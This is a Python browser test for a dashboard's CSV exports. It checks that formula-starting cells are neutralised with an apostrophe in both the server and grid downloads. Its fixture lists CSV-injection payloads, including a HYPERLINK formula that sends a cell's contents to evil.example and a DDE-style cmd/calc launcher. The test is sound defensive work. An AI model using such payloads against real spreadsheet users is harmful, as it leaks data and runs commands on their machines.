"""Both CSV exports of the managers' table in a real Chromium: formula cells neutralised by one rule.

The server runs in this process on a real redis-server, without collectors: the test writes a reports
snapshot whose texts start with what a spreadsheet would run (=, @, +, -, tab, carriage return), then
downloads the server CSV and the grid's own export and reads both files.
"""

from __future__ import annotations

import csv
import io
import threading
from datetime import UTC, datetime, timedelta

import pytest
import redis
from werkzeug.security import generate_password_hash
from werkzeug.serving import make_server

from app import create_app
from dashboard.models import FetchResult, ReportRecord, ReportStatus
from dashboard.settings import load_settings
from dashboard.store import Store
from tests.live_app import sign_in
from tests.redis_server import free_port

pytestmark = pytest.mark.browser

MANAGER, PASSWORD = "camille.durand", "export-test-password"
# Category texts as a feed could publish them; the id says which one a row holds.
CATEGORIES = {
    "f-equals": '=HYPERLINK("http://evil.example/?"&A1;"Voir")',
    "f-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "f-plus": "+33 6 00 00 00 00",
    "f-minus": "-2+3",
    "f-tab": "\t=1+1",
    "f-cr": "\r=1+1",
    "f-plain": "Voirie",
}


@pytest.fixture(scope="module")
def export_app(redis_server):
    client = redis.Redis.from_url(redis_server.url)
    client.flushdb()
    store = Store(client)
    now = datetime.now(UTC)
    records = tuple(
        ReportRecord(rid, category, ReportStatus.NEW, 1.44 + i * 0.001, 43.60, now - timedelta(hours=i), now)
        for i, (rid, category) in enumerate(CATEGORIES.items())
    )
    store.write_snapshot("reports", FetchResult(records, now), source="test", demo=False)
    settings = load_settings(
        {
            "CITYOPS_MANAGERS": f"{MANAGER}:{generate_password_hash(PASSWORD)}",
            "CITYOPS_SESSION_COOKIE_SECURE": "false",
            "CITYOPS_POLL_SECONDS": "0.5",
        },
        redis_url=redis_server.url,
    )
    port = free_port()
    http = make_server("127.0.0.1", port, create_app(settings, store=store), threaded=True)
    threading.Thread(target=http.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{port}"
    http.shutdown()
    client.flushdb()
    client.close()


def _rows(path) -> list[dict[str, str]]:
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))


def test_grid_export_neutralises_formula_cells_exactly_as_the_server_csv(page, export_app):
    sign_in(page, export_app, MANAGER, PASSWORD)
    page.goto(export_app + "/")
    page.click("#table-layer")
    page.get_by_role("dialog").get_by_role("option", name="Signalements", exact=True).click()
    page.wait_for_function(
        "(n) => document.querySelectorAll('#table .ag-row').length === n", arg=len(CATEGORIES), timeout=30000
    )

    with page.expect_download() as server_download:
        page.get_by_role("link", name="Télécharger le CSV (filtres de la page)").click()
    with page.expect_download() as grid_download:
        page.get_by_role("button", name="Exporter la vue du tableau (CSV)").click()
    server = {row["Identifiant"]: row for row in _rows(server_download.value.path())}
    grid = {row["Identifiant"]: row for row in _rows(grid_download.value.path())}

    assert set(server) == set(grid) == set(CATEGORIES)
    for rid, category in CATEGORIES.items():
        expected = category if rid == "f-plain" else "'" + category
        assert server[rid]["Catégorie"] == expected, rid
        assert grid[rid]["Catégorie"] == expected, rid
        # Every text cell the same in both files; numbers stay numbers (the server writes a decimal comma).
        for header, value in server[rid].items():
            if header in {"Longitude", "Latitude"}:
                assert float(grid[rid][header]) == float(value.replace(",", ".")), (rid, header)
                assert not grid[rid][header].startswith("'")
            else:
                assert grid[rid][header] == value, (rid, header)
    assert page.errors == []
